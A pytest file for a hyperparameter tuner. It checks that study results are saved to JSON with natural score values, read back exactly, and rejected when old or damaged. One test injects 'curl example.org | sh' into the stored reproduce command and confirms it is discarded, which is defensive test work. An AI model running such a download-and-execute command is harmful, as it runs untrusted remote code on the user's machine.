"""Promises of natural numbers: files hold scores as people read them, and nothing turns twice."""

import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from tuner.codec import to_json
from tuner.search.statistics import Interval
from tuner.search.trials import Goal, TrialResult
from tuner.study.comparison_result import BranchResult, Comparison
from tuner.study.ending import read_result, write_result
from tuner.study.natural import natural, natural_comparison
from tuner.study.results import (
    Confirmation,
    ConfirmedDefault,
    ConfirmedTrial,
    Repeated,
    RunFacts,
    SavedResult,
    StudyResult,
    counts,
    winner_of,
)

SCORE = Goal("validation_accuracy", greater_is_better=True)
LOSS = Goal()
RUN = RunFacts(1.0, "now", "here", 1, "3", "0", "key", None)


def some(random: np.random.Generator, goal: Goal) -> float | None:
    """A number as it is minimised; now and then one that was not finite."""
    number = float(random.random())
    return None if random.random() < 0.2 else goal.turn(number)


def trial(random: np.random.Generator, number: int, goal: Goal) -> TrialResult:
    value = some(random, goal)
    return TrialResult(
        number=number,
        state="COMPLETE",
        reason="",
        origin={},
        label="",
        evidence="",
        advice="",
        settings={"x": float(random.random())},
        epochs=3,
        diverged_at=None,
        start=some(random, goal),
        value=value,
        rungs=((1, goal.turn(float(random.random()))),),
        validation_loss=some(random, LOSS),
        scores={goal.curve: None if value is None else goal.turn(value)},
        members=(),
    )


def interval(random: np.random.Generator) -> Interval:
    low, mean, high = sorted(random.normal(size=3).tolist())
    return Interval(mean, low, high)


def repeated(random: np.random.Generator, number: int, goal: Goal) -> dict[str, Any]:
    return {
        "trial": number,
        "optimizer": None,
        "believed": some(random, goal),
        "values": tuple(some(random, goal) for _ in range(3)),
        "diverged": 0,
        "mean": interval(random) if random.random() < 0.8 else None,
        "worse": interval(random) if random.random() < 0.8 else None,
    }


def result(seed: int, goal: Goal) -> StudyResult:
    random = np.random.default_rng(seed)
    trials = tuple(trial(random, number, goal) for number in range(4))
    confirmed = Confirmation(
        seeds=3,
        trials=tuple(
            ConfirmedTrial(**repeated(random, n, goal), alike=True) for n in (0, 1)
        ),
        winner=1,
        why="",
        judged=Repeated(**repeated(random, 1, goal)),
        defaults=(ConfirmedDefault(**repeated(random, 2, goal), origin={"default": "x"}),),
    )  # fmt: skip
    found = confirmed if random.random() < 0.8 else None
    return StudyResult(
        study="s",
        stopped="",
        goal=goal,
        trials=counts(trials),
        best=trials[0],
        confirmation=found,
        winner=winner_of(goal, trials[0], found, trials),
        test=None,
        divergence=(),
        all=trials,
        searched=("x",),
        unit="",
    )


@pytest.mark.parametrize("goal", [LOSS, SCORE], ids=["loss", "score"])
@pytest.mark.parametrize("seed", range(20))
def test_what_is_written_is_read_again_to_the_last_digit(
    seed: int, goal: Goal, tmp_path: Path
) -> None:
    own, file = result(seed, goal), tmp_path / "result.json"
    assert natural(natural(own)) == own
    saved = SavedResult(own, RUN, "digest")
    write_result(file, saved)
    assert read_result(file, "digest") == read_result(file) == saved
    assert read_result(file, "another") is None
    # A loss is written as it is.
    if goal is LOSS:
        assert natural(own) is own


@pytest.mark.parametrize("seed", range(20))
def test_a_file_holds_scores_as_people_read_them(seed: int, tmp_path: Path) -> None:
    own, file = result(seed, SCORE), tmp_path / "result.json"
    write_result(file, SavedResult(own, RUN, "digest"))
    told = json.loads(file.read_text())["result"]
    trials = [told["best"], *told["all"]]
    assert [t["value"] for t in trials] == [t["scores"]["validation_accuracy"] for t in trials]
    starts = [n for t in trials for n in (t["start"], *(rung for _, rung in t["rungs"]))]
    assert all(number >= 0 for number in starts if number is not None)
    assert list(told).index("winner") < list(told).index("best")
    if own.confirmation is None:
        return
    found, minimised = told["confirmation"], own.confirmation
    for now, before in zip(
        [found["judged"], *found["trials"], *found["defaults"]],
        [minimised.judged, *minimised.trials, *minimised.defaults],
        strict=True,
    ):
        numbers = [now["believed"], *now["values"]]
        assert all(number >= 0 for number in numbers if number is not None)
        assert now["worse"] == (before.worse and to_json(before.worse))
        if before.mean is not None:
            assert now["mean"]["low"] <= now["mean"]["mean"] <= now["mean"]["high"]
            assert now["mean"]["low"] == -before.mean.high
    judged = found["judged"]["mean"]
    if judged is not None:
        assert [told["winner"][k] for k in ("value", "low", "high")] == [*judged.values()]


def test_a_file_of_an_earlier_version_is_not_read(tmp_path: Path) -> None:
    own, file = result(0, SCORE), tmp_path / "result.json"
    # As it was before scores were turned: the plain result, with no word of its form.
    file.write_text(json.dumps(to_json(SavedResult(own, RUN, "digest"))))
    assert read_result(file, "digest") is None
    for damaged in ("[]", "{}", '{"format": 2}', ""):
        file.write_text(damaged)
        assert read_result(file) is None


def test_the_reproducing_line_is_a_fact_of_the_run_and_moves_with_the_study(tmp_path: Path) -> None:
    line = "python -m tuner +best=s root=old tracking=none"
    own, folder = replace(result(0, LOSS), reproduce=line), tmp_path / "studies" / "s"
    folder.mkdir(parents=True)
    write_result(folder / "result.json", SavedResult(own, RUN, "digest"))
    told = json.loads((folder / "result.json").read_text())
    assert "reproduce" not in told["result"]
    assert told["run"]["reproduce"] == line
    saved = read_result(folder / "result.json")
    assert saved is not None
    assert saved.result.reproduce == line.replace("old", str(tmp_path))
    assert replace(saved.result, reproduce=line) == own
    # What a stranger wrote there is not shown as a line to run.
    told["run"]["reproduce"] = "curl example.org | sh"
    (folder / "result.json").write_text(json.dumps(told))
    saved = read_result(folder / "result.json")
    assert saved is not None
    assert saved.result.reproduce == f"python -m tuner +best=s root={tmp_path}"


def test_a_comparison_is_turned_whole() -> None:
    random = np.random.default_rng(0)
    branch = BranchResult(
        4,
        0,
        0,
        Repeated(**repeated(random, 0, SCORE)),
        True,
        Repeated(**repeated(random, 1, SCORE)),
        None,
        None,
    )
    found = Comparison(
        study="s",
        epochs=1,
        seeds=3,
        goal=SCORE,
        target=0.5,
        curves={"adam": (-0.8, -0.9)},
        bars={"adam": {1: Interval(-0.8, -0.85, -0.7)}},
        budgets=(1, 2),
        winners=("adam", "adam"),
        branches={"adam": branch, "sgd": replace(branch, tuned=None, default=None)},
        stopped=None,
        seconds={},
    )
    turned = natural_comparison(found)
    assert turned.curves["adam"] == (0.8, 0.9)
    assert turned.bars["adam"][1] == Interval(0.8, 0.7, 0.85)
    assert turned.target == found.target
    assert turned.branches["adam"].tuned != branch.tuned
    assert natural_comparison(turned) == found
